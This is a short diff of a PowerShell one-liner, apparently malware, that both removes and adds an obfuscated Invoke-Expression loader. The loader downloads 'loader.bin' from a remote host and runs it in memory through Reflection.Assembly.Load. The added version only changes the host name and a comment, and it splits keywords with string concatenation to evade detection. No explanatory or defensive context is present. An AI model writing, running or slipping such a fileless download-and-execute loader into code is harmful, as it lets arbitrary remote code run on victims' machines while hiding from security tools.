@@ -1,5 +1,5 @@
-iex ('# run 815'+'4 v3
-$b = (New-Object Net.WebClient).DownloadData(''http:'+'//repo.pkg-mirror'+'.example/loader.bin'')
-$a ='+' '+'[System.Reflection.Assembly]::Load($b)
-$a.EntryPoint.Invoke($null, (, [string[]] @()))
+iex ('#'+' bootstrap'+' 4289 v3
+$b = (New-Object Net.WebClient).DownloadData(''http://files.sync-svc.example/lo'+'ader.bin'')
+$a = [System.Reflec'+'tion.Assembly]::Load($b)
+$a.EntryPoint.Inv'+'oke($null, (, [string[]] @()))
 ')
